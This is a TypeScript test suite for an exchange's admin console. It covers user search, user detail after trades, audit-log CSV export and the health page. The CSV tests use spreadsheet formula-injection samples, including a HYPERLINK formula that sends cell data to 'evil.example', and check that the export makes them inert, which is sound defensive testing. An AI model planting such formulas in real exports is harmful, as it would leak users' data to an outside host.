// The console's read screens over a running exchange: the user search, a user's whole picture after real trades
// (balances per account as the desks hold them, spot orders open and filled, the perpetual position at the mark,
// sessions, identity submissions) and their records; the audit log's CSV export (filters, RFC 4180 quoting, cells
// a spreadsheet would run made inert); the health page with live numbers (desks' commits, the store, an open
// socket on the public port, the price record's head as it grows). On SQLite and PostgreSQL.
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { runAdmin } from '../../../server/cli/admin.ts';
import { API } from '../../../server/contract/api.ts';
import { OPS_PATHS } from '../../../server/contract/ops.ts';
import type { Reply } from '../../../server/desks/index.ts';
import { csvField, safeCell } from '../../../server/ops/audit.ts';
import { describeDialects } from '../dialects.ts';
import { openOpsWorld, type OpsWorld } from './world.ts';

const TRADER = 'trader@example.com';
const MAKER = 'maker@example.com';
const E8 = 100_000_000n;

function value<T>(reply: Reply<T>): T {
  if (!reply.ok) throw new Error(`refused: ${reply.code}`);
  return reply.value;
}

/** RFC 4180: records by CRLF, fields by comma, quoted fields may hold commas, quotes (doubled) and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(field), (field = '');
    else if (c === '\r' && text[i + 1] === '\n') row.push(field), rows.push(row), (row = []), (field = ''), i++;
    else field += c;
  }
  return rows;
}

describe('CSV cells', () => {
  it('quotes by RFC 4180 and makes formula cells inert', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField(null)).toBe('');
    expect(csvField(-5)).toBe('-5');
    for (const cell of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx']) expect(safeCell(cell)).toBe(`'${cell}`);
    expect(csvField('=HYPERLINK("http://x","y")')).toBe('"\'=HYPERLINK(""http://x"",""y"")"');
  });
});

describeDialects('console screens', (dialect) => {
  let w: OpsWorld;
  let cookie: string;
  let trader: number;
  let maker: number;

  beforeEach(async () => {
    w = await openOpsWorld(dialect);
    const alice = await w.addOperator('alice', 'admin');
    cookie = await w.login(alice);
    for (const email of [TRADER, MAKER]) {
      const made = await runAdmin(['user', 'create', '--email', email, '--password', 'Secret12345', '--verified'], { dataDir: w.dataDir, databaseUrl: w.target.databaseUrl });
      expect(made.exitCode, made.output).toBe(0);
    }
    trader = (await w.server.store.users.findByEmail(TRADER))!.id;
    maker = (await w.server.store.users.findByEmail(MAKER))!.id;
  }, 90_000);
  afterEach(async () => {
    await w?.dispose();
  });

  const credit = async (email: string, asset: string, amount: string, account = 'coin') => {
    const r = await w.command(cookie, 'balance credit', { email, asset, amount, account }, 'test funds');
    expect(r.body.code, JSON.stringify(r.body)).toBe('success');
  };

  it('shows a user\'s real balances, orders, position, sessions and records after real trades', async () => {
    await credit(TRADER, 'USDT', '100000');
    await credit(TRADER, 'USDT', '10000', 'contract');
    await credit(MAKER, 'BTC', '1');
    await credit(MAKER, 'USDT', '10000', 'contract');
    const spot = w.server.desks.spot;
    value(await spot.place({ type: 'limit', user: maker, symbol: 'BTCUSDT', side: 'sell', price: '50000', qty: '0.1' }));
    const filled = value(await spot.place({ type: 'limit', user: trader, symbol: 'BTCUSDT', side: 'buy', price: '50000', qty: '0.1' }));
    const open = value(await spot.place({ type: 'limit', user: trader, symbol: 'BTCUSDT', side: 'buy', price: '40000', qty: '0.05' }));
    const perp = w.server.desks.perp;
    value(await perp.mark({ symbol: 'BTCUSDT', mark: 50_000n * E8, index: 50_000n * E8, fundingRate: null }));
    value(await perp.place({ user: maker, symbol: 'BTCUSDT', side: 'sell', type: 'limit', price: '50000', qty: '0.1' }));
    value(await perp.place({ user: trader, symbol: 'BTCUSDT', side: 'buy', type: 'limit', price: '50000', qty: '0.1' }));
    // The trader signs in on the public app: a session the console lists.
    const signed = await w.server.app.inject({ method: 'POST', url: API.login, headers: { 'content-type': 'application/json', 'user-agent': 'TestBrowser/1.0' }, payload: JSON.stringify({ account: TRADER, password: 'Secret12345' }) });
    expect(signed.statusCode).toBe(200);

    // Search: by e-mail part, by id; LIKE's wildcards are text.
    const byMail = await w.call('GET', OPS_PATHS.users, { cookie, query: { q: 'TRADER@' } });
    expect(byMail.body.data).toMatchObject({ total: 1, pageIndex: 1, list: [{ id: trader, email: TRADER, frozen: false, realName: 'certified' }] });
    expect((await w.call('GET', OPS_PATHS.users, { cookie, query: { q: String(maker) } })).body.data.list.map((u: { id: number }) => u.id)).toContain(maker);
    expect((await w.call('GET', OPS_PATHS.users, { cookie, query: { q: '%' } })).body.data.total).toBe(0);
    expect((await w.call('GET', OPS_PATHS.users, { cookie, query: { q: '' } })).body.data.total).toBe(2);

    const detail = (await w.call('GET', OPS_PATHS.user, { cookie, query: { id: String(trader) } })).body.data;
    expect(detail.user).toMatchObject({ id: trader, email: TRADER, twoFactor: false, fundPassword: false, invitedBy: null });
    // Balances: exactly what the desks hold, per account.
    const expected = [];
    for (const wallet of ['coin', 'contract', 'earn', 'seconds', 'fiat'] as const) {
      for (const b of value(await w.server.desks.byWallet[wallet].balances(trader))) expected.push({ account: wallet, asset: b.asset, available: b.available, frozen: b.frozen, locked: '0' });
    }
    expect(detail.balances).toEqual(expected);
    const coinUsdt = detail.balances.find((b: { account: string; asset: string }) => b.account === 'coin' && b.asset === 'USDT');
    expect(coinUsdt.frozen).toBe('2000'); // the open buy: 0.05 × 40000
    expect(detail.balances.some((b: { account: string; asset: string }) => b.account === 'coin' && b.asset === 'BTC')).toBe(true);
    // Orders: the open one first, then the rest, newest first.
    expect(detail.orders[0]).toMatchObject({ market: 'spot', id: String(open.order.orderId), side: 'buy', price: '40000', amount: '0.05', filled: '0', status: 'new' });
    expect(detail.orders).toContainEqual(expect.objectContaining({ market: 'spot', id: String(filled.order.orderId), status: 'filled', filled: '0.1' }));
    expect(detail.orders).toContainEqual(expect.objectContaining({ market: 'contract', symbol: 'BTCUSDT', side: 'buy', status: 'filled', filled: '0.1' }));
    expect(detail.positions).toEqual([
      expect.objectContaining({ symbol: 'BTCUSDT', side: 'long', size: '0.1', entryPrice: '50000', markPrice: '50000', marginType: 'cross', unrealizedPnl: '0' }),
    ]);
    expect(detail.seconds).toEqual([]);
    expect(detail.sessions).toEqual([expect.objectContaining({ userAgent: 'TestBrowser/1.0', expiresAt: expect.any(Number) })]);
    expect(detail.kyc).toEqual([]);

    const records = (await w.call('GET', OPS_PATHS.userRecords, { cookie, query: { id: String(trader), pageSize: '50' } })).body.data;
    expect(records.total).toBeGreaterThanOrEqual(2);
    expect(records.list.length).toBe(records.total);
    expect((await w.call('GET', OPS_PATHS.userRecords, { cookie, query: { id: String(trader), pageSize: '7' } })).body.code).toBe('request.invalid');
    expect((await w.call('GET', OPS_PATHS.user, { cookie, query: { id: '999999999' } })).body.code).toBe('ops.not.found');
    expect((await w.call('GET', OPS_PATHS.kycPhoto, { cookie, query: { submission: '1', kind: 'front' } })).status).toBe(404);
  });

  it('exports the audit log as CSV with its filters, quoted by RFC 4180, formula cells made inert', async () => {
    await credit(TRADER, 'USDT', '10');
    w.clock.advance(60_000);
    const from = w.clock.now();
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"click"), really';
    expect((await w.command(cookie, 'user freeze', { email: TRADER }, evil)).body.code).toBe('success');
    expect((await w.command(cookie, 'user unfreeze', { email: TRADER }, '+1 from support, "ok"')).body.code).toBe('success');
    w.clock.advance(60_000);
    const to = w.clock.now();
    await credit(TRADER, 'USDT', '5');

    const csv = await w.call('GET', OPS_PATHS.auditCsv, { cookie, query: { from: String(from), to: String(to) } });
    expect(csv.status).toBe(200);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(String(csv.headers['content-disposition'])).toMatch(/^attachment; filename="audit-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(csv.text.endsWith('\r\n')).toBe(true);
    const rows = parseCsv(csv.text);
    expect(rows[0]).toEqual(['id', 'time', 'operator', 'via', 'command', 'line', 'reason', 'status', 'result', 'completed', 'request_id']);
    expect(rows.slice(1).map((r) => [r[2], r[3], r[4], r[6], r[7]])).toEqual([
      ['alice', 'console', 'user unfreeze', "'+1 from support, \"ok\"", 'done'],
      ['alice', 'console', 'user freeze', `'${evil}`, 'done'],
    ]);
    // Filtered by operator and command prefix, and the JSON page agrees.
    const byCommand = parseCsv((await w.call('GET', OPS_PATHS.auditCsv, { cookie, query: { command: 'balance credit' } })).text);
    expect(byCommand.slice(1).map((r) => r[4])).toEqual(['balance credit', 'balance credit']);
    expect(parseCsv((await w.call('GET', OPS_PATHS.auditCsv, { cookie, query: { operator: 'nobody' } })).text)).toEqual([rows[0]]);
    const page = await w.call('GET', OPS_PATHS.audit, { cookie, query: { pageSize: '2' } });
    expect(page.body.data.total).toBeGreaterThanOrEqual(3);
    expect(page.body.data.list.length).toBe(2);
    expect((await w.call('GET', OPS_PATHS.audit, { cookie, query: { from: 'yesterday' } })).body.code).toBe('request.invalid');
  });
});

describe('console health', () => {
  let w: OpsWorld;
  beforeEach(async () => {
    w = await openOpsWorld('sqlite', { feeds: true, systemClock: true });
  }, 90_000);
  afterEach(async () => {
    await w?.dispose();
  });

  it('shows live numbers: desks\' commits, the store, open sockets, the price record\'s head moving', async () => {
    const alice = await w.addOperator('alice', 'admin');
    const eddie = await w.addOperator('eddie', 'editor');
    const cookie = await w.login(alice);
    const made = await runAdmin(['user', 'create', '--email', TRADER, '--password', 'Secret12345'], { dataDir: w.dataDir, databaseUrl: w.target.databaseUrl });
    expect(made.exitCode).toBe(0);
    for (let i = 0; i < 3; i++) expect((await w.command(cookie, 'balance credit', { email: TRADER, asset: 'USDT', amount: '1' }, 'health test')).body.code).toBe('success');
    const socket = new WebSocket(`${w.server.url.replace('http', 'ws')}/ws`);
    await new Promise<void>((resolve, reject) => {
      socket.onopen = () => resolve();
      socket.onerror = () => reject(new Error('socket failed'));
    });
    try {
      // The simulated index's first prices make the record's first entries within a moment of the start.
      const health = async () => (await w.call('GET', OPS_PATHS.health, { cookie })).body.data;
      let first = await health();
      for (let i = 0; i < 50 && first.priceRecord.head === null; i++) {
        await new Promise((r) => setTimeout(r, 100));
        first = await health();
      }
      expect(first.desks.map((d: { desk: string }) => d.desk)).toEqual(['spot', 'perp', 'earn', 'seconds', 'fiat']);
      const spot = first.desks[0];
      expect(spot).toMatchObject({ running: true, queue: 0 });
      expect(spot.batchesPerMinute).toBeGreaterThanOrEqual(3);
      expect(spot.commitP50Ms).toBeGreaterThan(0);
      expect(spot.commitP99Ms).toBeGreaterThanOrEqual(spot.commitP50Ms);
      expect(first.store).toMatchObject({ dialect: 'sqlite', ok: true });
      expect(first.store.sizeBytes).toBeGreaterThan(0);
      expect(first.store.latencyMs).toBeGreaterThanOrEqual(0);
      expect(first.sockets.open).toBe(1);
      expect(first.priceRecord.head).not.toBeNull();
      expect(first.priceRecord.lagMs).toBeLessThan(5_000);
      expect(first.jobs.find((j: { name: string }) => j.name === 'price record')).toMatchObject({ ok: true });
      expect(first.uptimeMs).toBeGreaterThanOrEqual(0);
      await new Promise((r) => setTimeout(r, 1_200));
      const later = (await w.call('GET', OPS_PATHS.health, { cookie })).body.data;
      expect(later.priceRecord.headAt).toBeGreaterThan(first.priceRecord.headAt);
      expect(later.at).toBeGreaterThan(first.at);
      // Every role may see it.
      expect((await w.call('GET', OPS_PATHS.health, { cookie: await w.login(eddie) })).body.code).toBe('success');
    } finally {
      socket.close();
    }
    await new Promise((r) => setTimeout(r, 200));
    expect((await w.call('GET', OPS_PATHS.health, { cookie })).body.data.sockets.open).toBe(0);
  }, 30_000);
});
